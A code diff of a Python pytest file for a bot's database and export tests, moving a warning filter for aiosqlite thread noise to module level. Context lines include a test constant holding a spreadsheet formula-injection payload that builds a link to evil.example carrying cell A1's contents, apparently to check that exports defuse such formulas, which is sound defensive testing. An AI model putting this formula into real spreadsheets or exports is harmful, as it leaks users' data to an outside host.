@@ -24,6 +24,10 @@ from bot.settings import Settings, get_settings
 from models import Person
 from tests.world import make_world
 
+# aiosqlite's worker thread, whose connection to an unopenable file failed, later reports to an
+# event loop already closed: noise that pytest notices in whichever test runs next.
+pytestmark = pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
+
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
@@ -125,8 +129,6 @@ def test_export_stock_speaks_the_operators_language(bank: str, capsys: pytest.Ca
     assert capsys.readouterr().out.splitlines()[0].startswith("community\titem\tname\topening")
 
 
-# aiosqlite's worker thread, whose connection failed, reports to a loop already closed: noise.
-@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
 @pytest.mark.parametrize(("url", "expected"), [
     ("postgresql+asyncpg://postgres@127.0.0.1:1/lovebank", "连不上数据库服务器 127.0.0.1:1"),
     ("sqlite+aiosqlite:////nonexistent-folder/bank.db", "打不开 SQLite 数据库文件 /nonexistent-folder/bank.db"),
